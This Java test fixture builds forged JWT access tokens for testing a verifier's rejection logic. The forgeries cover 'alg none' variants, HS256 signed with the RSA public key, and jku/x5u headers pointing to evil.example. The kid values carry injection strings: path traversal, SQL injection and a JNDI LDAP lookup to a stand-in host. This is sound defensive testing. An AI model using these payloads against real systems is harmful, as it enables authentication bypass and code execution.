package dev.turnout.common.test;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSSigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jose.util.Base64;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.UnaryOperator;

/// The one table of access tokens that nobody may take. Each differs from a good one in one thing.
public final class ForgedTokens {

    private static final JOSEObjectType ACCESS = new JOSEObjectType("at+jwt");
    private static final URI EVIL = URI.create("https://evil.example/keys");

    private final RSAKey key;
    private final RSAKey foreign;
    private final String issuer;
    private final String subject;

    private ForgedTokens(RSAKey key, String issuer, String subject) throws JOSEException {
        this.key = key;
        this.foreign = new RSAKeyGenerator(2048).keyID(key.getKeyID()).generate();
        this.issuer = issuer;
        this.subject = subject;
    }

    /// A good token, from which the others differ.
    public static String good(RSAKey key, String issuer, String subject) {
        return make(key, issuer, subject, ForgedTokens::good);
    }

    /// Every forgery, by what is wrong with it.
    public static Map<String, String> of(RSAKey key, String issuer, String subject) {
        return make(key, issuer, subject, forged -> {
            var all = forged.byHeader();
            all.putAll(forged.byAlgorithm());
            all.putAll(forged.byClaims());
            return all;
        });
    }

    /// Those with the name of the right key.
    static List<String> withKnownKey(RSAKey key, String issuer, String subject) {
        return of(key, issuer, subject).entrySet().stream()
                .filter(one -> !one.getKey().startsWith("kid "))
                .map(Map.Entry::getValue)
                .toList();
    }

    private interface Maker<T> {
        T make(ForgedTokens forged) throws JOSEException;
    }

    private static <T> T make(RSAKey key, String issuer, String subject, Maker<T> maker) {
        try {
            return maker.make(new ForgedTokens(key, issuer, subject));
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    private String good() throws JOSEException {
        return signed(header().build(), same(), new RSASSASigner(key));
    }

    private Map<String, String> byHeader() throws JOSEException {
        var all = new LinkedHashMap<String, String>();
        var thief = new RSASSASigner(foreign);
        all.put("signed by another key of the same name", signed(header().build(), same(), thief));
        all.put("jku: says where its key is", signed(header().jwkURL(EVIL).build(), same(), thief));
        all.put(
                "jwk: brings its key",
                signed(header().jwk(foreign.toPublicJWK()).build(), same(), thief));
        all.put(
                "x5u: says where its certificate is",
                signed(header().x509CertURL(EVIL).build(), same(), thief));
        all.put(
                "x5c: brings its certificate",
                signed(
                        header().x509CertChain(List.of(Base64.encode("certificate")))
                                .build(),
                        same(),
                        thief));
        all.put(
                "crit: names what nobody understands",
                signed(
                        header().criticalParams(Set.of("exp-extra"))
                                .customParam("exp-extra", true)
                                .build(),
                        same(),
                        new RSASSASigner(key)));
        for (String kid : List.of(
                "../../../../dev/null",
                "' OR '1'='1",
                "${jndi:ldap://evil.example/a}",
                "https://evil.example/key",
                "")) {
            all.put("kid " + kid, signed(header().keyID(kid).build(), same(), thief));
        }
        all.put("typ JWT", signed(header().type(JOSEObjectType.JWT).build(), same(), new RSASSASigner(key)));
        all.put("no typ", signed(header().type(null).build(), same(), new RSASSASigner(key)));
        return all;
    }

    private Map<String, String> byAlgorithm() throws JOSEException {
        var all = new LinkedHashMap<String, String>();
        byte[] publicKey = key.toRSAPublicKey().getEncoded();
        all.put("HS256 with the public key", signed(header(JWSAlgorithm.HS256), same(), new MACSigner(publicKey)));
        byte[] pem = ("-----BEGIN PUBLIC KEY-----\n"
                        + java.util.Base64.getMimeEncoder().encodeToString(publicKey)
                        + "\n-----END PUBLIC KEY-----\n")
                .getBytes(StandardCharsets.US_ASCII);
        all.put("HS256 with the public key as text", signed(header(JWSAlgorithm.HS256), same(), new MACSigner(pem)));
        all.put("RS512", signed(header(JWSAlgorithm.RS512), same(), new RSASSASigner(key)));
        all.put("PS256", signed(header(JWSAlgorithm.PS256), same(), new RSASSASigner(key)));
        for (String none : List.of("none", "None", "NONE", "nOnE")) {
            all.put("alg " + none, unsigned(none));
        }
        String good = good();
        all.put("without its signature", good.substring(0, good.lastIndexOf('.') + 1));
        all.put("with another body", withOtherBody(good));
        return all;
    }

    private Map<String, String> byClaims() throws JOSEException {
        var all = new LinkedHashMap<String, String>();
        all.put("another audience", with(claims -> claims.audience("turnout-live")));
        all.put("no audience", with(claims -> claims.audience((String) null)));
        all.put("another issuer", with(claims -> claims.issuer("https://evil.example/auth")));
        all.put("no issuer", with(claims -> claims.issuer(null)));
        all.put("expired", with(claims -> claims.expirationTime(in(-120))));
        all.put("not valid yet", with(claims -> claims.notBeforeTime(in(120))));
        return all;
    }

    private String with(UnaryOperator<JWTClaimsSet.Builder> change) throws JOSEException {
        return signed(header().build(), change, new RSASSASigner(key));
    }

    private String withOtherBody(String good) {
        String[] parts = good.split("\\.");
        return parts[0] + "."
                + Base64URL.encode(claims(claims -> claims.subject("00000000-0000-0000-0000-000000000001"))
                        .toString())
                + "." + parts[2];
    }

    private String unsigned(String algorithm) {
        return Base64URL.encode("{\"alg\":\"" + algorithm + "\",\"typ\":\"at+jwt\",\"kid\":\"" + key.getKeyID() + "\"}")
                + "." + Base64URL.encode(claims(same()).toString()) + ".";
    }

    private String signed(JWSHeader header, UnaryOperator<JWTClaimsSet.Builder> change, JWSSigner signer)
            throws JOSEException {
        var token = new SignedJWT(header, claims(change));
        token.sign(signer);
        return token.serialize();
    }

    private JWSHeader.Builder header() {
        return new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(key.getKeyID()).type(ACCESS);
    }

    private JWSHeader header(JWSAlgorithm algorithm) {
        return new JWSHeader.Builder(algorithm)
                .keyID(key.getKeyID())
                .type(ACCESS)
                .build();
    }

    private JWTClaimsSet claims(UnaryOperator<JWTClaimsSet.Builder> change) {
        return change.apply(new JWTClaimsSet.Builder()
                        .subject(subject)
                        .issuer(issuer)
                        .audience("turnout-api")
                        .issueTime(in(0))
                        .expirationTime(in(300)))
                .build();
    }

    private static UnaryOperator<JWTClaimsSet.Builder> same() {
        return UnaryOperator.identity();
    }

    private static Date in(int seconds) {
        return Date.from(Instant.now().plusSeconds(seconds));
    }
}
